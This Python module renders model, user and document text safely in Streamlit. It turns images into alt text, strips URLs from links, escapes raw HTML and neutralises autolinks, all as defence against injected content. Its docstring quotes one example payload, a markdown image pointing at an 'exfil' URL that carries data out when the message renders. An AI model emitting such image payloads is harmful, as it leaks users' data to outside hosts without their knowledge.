"""Model, user, document and manual text as safe Streamlit markdown: data, never markup that fetches.

``st.markdown`` renders images (``![x](http://host/exfil?d=…)`` is fetched by the viewer's browser
as soon as the message is shown), links, and — through remark-gfm — turns bare ``https://…``,
``www.…`` and e-mail addresses into links *after* backslash escapes are resolved, so escaping
alone does not stop an autolink. Labels (expander, checkbox) render images too.

:func:`safe_markdown` parses the text with markdown-it-py (CommonMark + GFM tables and
strikethrough, no linkify) and re-emits markdown in which

- images become their alt text (``[画像]`` when there is none); nothing is ever fetched;
- links keep their text, never their URL: an ``http(s)`` link is followed by its host as plain
  text, e.g. ``説明書 (example.com)``; autolinks ``<http://…>`` become plain text;
- raw HTML (block and inline) is shown as text, escaped;
- every text run is *literal*: the characters that open inline markup (``\\ ` * _ ~ [ ] & $ | #``)
  are backslash-escaped, ``<``/``>`` become ``&lt;``/``&gt;``, and a line starting like a block
  (``- x``, ``+ x``, ``===``, ``:-``, ``1. x``) gets its marker escaped; a ``(`` right after ``]`` is
  escaped too, so not even the raw string holds ``](http``. ``$…$`` math, ``:red[…]``
  directives, entities, tables and stray markers show as typed while ordinary text (``第8条(損害賠償)``,
  ``p.12``) stays readable in the raw string;
- URL-like sequences are neutralised in the text itself, because the GFM autolinker works on the
  unescaped text: ``://`` becomes ``:／／`` (U+FF0F), ``www.`` (any case) becomes ``www．``
  (U+FF0E) and ``@`` becomes ``＠`` (U+FF20), so no ``http://``, ``www.`` or e-mail autolink can
  form — also inside code spans and blocks, which keeps the rule simple and checkable;
- single newlines become hard breaks (``\\`` + newline), so chat text keeps its line breaks;
  paragraphs, headings, lists (bullet / ordered, nested, tight / loose), block quotes, emphasis,
  strikethrough, inline code, code blocks and tables are kept (emphasis nested with the same
  marker, e.g. ``***a*a*``, may come out grouped differently: a cosmetic, not a safety, difference).

:func:`safe_text` is the plain-text variant for labels and titles: the whole string is literal
(no markdown at all), neutralised the same way.

Bounded: input is cut at :data:`MAX_INPUT_CHARS` before parsing; block nesting is capped by
markdown-it's ``maxNesting`` (deeper content is dropped by the parser, not rendered).
"""
from __future__ import annotations

from functools import lru_cache

from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

MAX_INPUT_CHARS = 50_000
MAX_NESTING = 40
TRUNCATED_NOTE = "…（長すぎるため、以降の表示を省略しました）"
IMAGE_PLACEHOLDER = "[画像]"

_PARSER = MarkdownIt("commonmark", {"maxNesting": MAX_NESTING}).enable(["table", "strikethrough"])
# Characters that can open inline markup anywhere in a line ("(" or "!" only matter after "]" or
# before "[", which are escaped); "<" and ">" become entities so no "<img"/"<a" ever stands in the text.
_ESCAPES = str.maketrans({**{c: "\\" + c for c in "\\`*_~[]&$|#"}, "<": "&lt;", ">": "&gt;"})
_LINE_START = frozenset("-+=:")  # lists, setext underlines, thematic breaks, table delimiter rows
_ASCII_LOWER = str.maketrans("ABCDEFGHIJKLMNOPQRSTUVWXYZ", "abcdefghijklmnopqrstuvwxyz")
_HARD_BREAK = "\\\n"
_ALIGN = {"text-align:left": ":---", "text-align:right": "---:", "text-align:center": ":---:"}


def _cap(text: str) -> str:
    text = "" if text is None else str(text)
    return text[:MAX_INPUT_CHARS] + TRUNCATED_NOTE if len(text) > MAX_INPUT_CHARS else text


def neutralise_urls(text: str) -> str:
    """``://`` → ``:／／``, ``www.`` (any case) → ``www．``, ``@`` → ``＠``: nothing a GFM autolinker
    turns into a link. Linear: plain string scans, no regular expressions."""
    text = text.replace("://", ":／／").replace("@", "＠")
    folded = text.translate(_ASCII_LOWER)  # same length as ``text`` (ASCII-only case folding)
    if "www." not in folded:
        return text
    out, start = [], 0
    while (i := folded.find("www.", start)) != -1:
        out.append(text[start:i + 3] + "．")
        start = i + 4
    out.append(text[start:])
    return "".join(out)


def _literal(text: str) -> str:
    # "](" cannot open a link once "]" is escaped; "\\(" as well keeps even the raw text free of "](http"
    return neutralise_urls(text).translate(_ESCAPES).replace("](", "]\\(")


def _guard_line(line: str) -> str:
    """Escape what would start a block at the beginning of a line: ``- x``, ``+ x``, ``===``, ``1. x``."""
    if not line:
        return line
    if line[0] in _LINE_START:
        return "\\" + line
    digits = 0
    while digits < len(line) and digits < 10 and "0" <= line[digits] <= "9":
        digits += 1
    if 0 < digits < 10 and digits < len(line) and line[digits] in ".)":
        return line[:digits] + "\\" + line[digits:]
    return line


def _guard_lines(text: str) -> str:
    return "\n".join(_guard_line(line) for line in text.split("\n"))


def safe_text(text: str, *, single_line: bool = False) -> str:
    """``text`` as literal markdown (no formatting, links or images), line breaks kept as hard
    breaks — or folded into spaces with ``single_line`` (titles, labels)."""
    lines = [line.strip() for line in _cap(text).replace("\r\n", "\n").replace("\r", "\n").split("\n")]
    if single_line:
        return _guard_line(_literal(" ".join(line for line in lines if line)))
    kept = [i for i, line in enumerate(lines) if line]
    lines = lines[kept[0]:kept[-1] + 1] if kept else []  # no break before the first or after the last line
    return _HARD_BREAK.join(_guard_line(_literal(line)) for line in lines)


def _host(href: str) -> str:
    scheme, sep, rest = href.partition("://")
    if not sep or scheme.lower() not in ("http", "https"):
        return ""
    host = rest.split("/", 1)[0].split("?", 1)[0].split("#", 1)[0].rsplit("@", 1)[-1]
    return host[:100]


def _code_fence(content: str, char: str = "`") -> str:
    longest = run = 0
    for c in content:
        run = run + 1 if c == char else 0
        longest = max(longest, run)
    return char * (longest + 1)


def _inline(node: SyntaxTreeNode, breaks: str) -> str:
    parts: list[str] = []
    for child in node.children:
        part = _inline_node(child, breaks)
        if part.startswith("(") and parts and parts[-1].endswith("]"):  # text "(" after an escaped "]"
            part = "\\" + part
        parts.append(part)
    return "".join(parts)


def _inline_node(node: SyntaxTreeNode, breaks: str) -> str:
    kind = node.type
    if kind == "text":
        return _literal(node.content)
    if kind in ("softbreak", "hardbreak"):
        return breaks
    if kind in ("em", "strong"):
        return node.markup + _inline(node, breaks) + node.markup
    if kind == "s":
        return "~~" + _inline(node, breaks) + "~~"
    if kind == "code_inline":
        content = neutralise_urls(node.content)
        fence = _code_fence(content)
        if not content.strip(" "):
            return f"{fence}{content}{fence}" if content else ""
        pad = " " if content.startswith(("`", " ")) or content.endswith(("`", " ")) else ""
        return f"{fence}{pad}{content}{pad}{fence}"
    if kind == "link":
        text = _inline(node, breaks)
        host = "" if node.markup == "autolink" else _host(str(node.attrs.get("href") or ""))
        return f"{text} ({_literal(host)})" if host else text
    if kind == "image":
        alt = _inline(node, " ").strip()
        return alt or _literal(IMAGE_PLACEHOLDER)
    if node.children:
        return _inline(node, breaks)
    return _literal(node.content)  # html_inline and anything unknown: shown as text


def _indent(text: str, prefix: str, first: str) -> str:
    lines = text.split("\n")
    return "\n".join([first + lines[0]] + [(prefix + line) if line else "" for line in lines[1:]])


def _list(node: SyntaxTreeNode) -> str:
    ordered = node.type == "ordered_list"
    number = int(node.attrs.get("start", 1) or 1) if ordered else 0
    tight = all(p.hidden for item in node.children for p in item.children if p.type == "paragraph")
    items = []
    for item in node.children:
        marker = f"{number}{node.markup or '.'} " if ordered else f"{node.markup or '-'} "
        number += 1
        body = _blocks(item.children, "\n" if tight else "\n\n")
        items.append(_indent(body, " " * len(marker), marker) if body else marker.rstrip())
    return ("\n" if tight else "\n\n").join(items)


def _table(node: SyntaxTreeNode) -> str:
    rows: list[list[str]] = []
    aligns: list[str] = []
    for section in node.children:  # thead, tbody
        for tr in section.children:
            cells = []
            for cell in tr.children:
                if section.type == "thead":
                    aligns.append(_ALIGN.get(str(cell.attrs.get("style", "")), "---"))
                cells.append(_guard_line(_inline(cell.children[0], " ")) if cell.children else "")
            rows.append(cells)
    if not rows:
        return ""
    lines = ["| " + " | ".join(rows[0]) + " |", "| " + " | ".join(aligns or ["---"]) + " |"]
    lines += ["| " + " | ".join(row) + " |" for row in rows[1:]]
    return "\n".join(lines)


def _block(node: SyntaxTreeNode) -> str:
    kind = node.type
    if kind == "paragraph":
        return _guard_lines(_inline(node.children[0], _HARD_BREAK)) if node.children else ""
    if kind == "heading":
        return "#" * int(node.tag[1:]) + " " + (_guard_line(_inline(node.children[0], " ")) if node.children else "")
    if kind in ("bullet_list", "ordered_list"):
        return _list(node)
    if kind == "blockquote":
        inner = _blocks(node.children, "\n\n")
        return "\n".join("> " + line if line else ">" for line in inner.split("\n"))
    if kind in ("fence", "code_block"):
        content = neutralise_urls(node.content)
        if content and not content.endswith("\n"):
            content += "\n"
        fence = max(_code_fence(content), "```", key=len)
        language = "".join(c for c in (node.info or "").split(" ")[0][:20] if c.isascii() and (c.isalnum() or c in "+-_"))
        return f"{fence}{language}\n{content}{fence}"
    if kind == "hr":
        return "***"
    if kind == "table":
        return _table(node)
    if kind == "html_block":
        return safe_text(node.content.rstrip("\n"))
    return _blocks(node.children, "\n\n") if node.children else safe_text(node.content)


def _blocks(nodes: list[SyntaxTreeNode], sep: str) -> str:
    return sep.join(part for part in (_block(n) for n in nodes) if part)


@lru_cache(maxsize=256)  # Streamlit re-renders every message on each rerun
def _render(source: str) -> str:
    return _blocks(SyntaxTreeNode(_PARSER.parse(source)).children, "\n\n")


def safe_markdown(text: str) -> str:
    """``text`` as markdown with no image, link, autolink or raw HTML left (see the module
    docstring); line breaks, lists and emphasis kept."""
    source = "" if text is None else str(text)
    cut = len(source) > MAX_INPUT_CHARS
    out = _render(source[:MAX_INPUT_CHARS]) if source.strip() else ""
    return f"{out}\n\n{_literal(TRUNCATED_NOTE)}" if cut else out


__all__ = ["MAX_INPUT_CHARS", "neutralise_urls", "safe_markdown", "safe_text"]
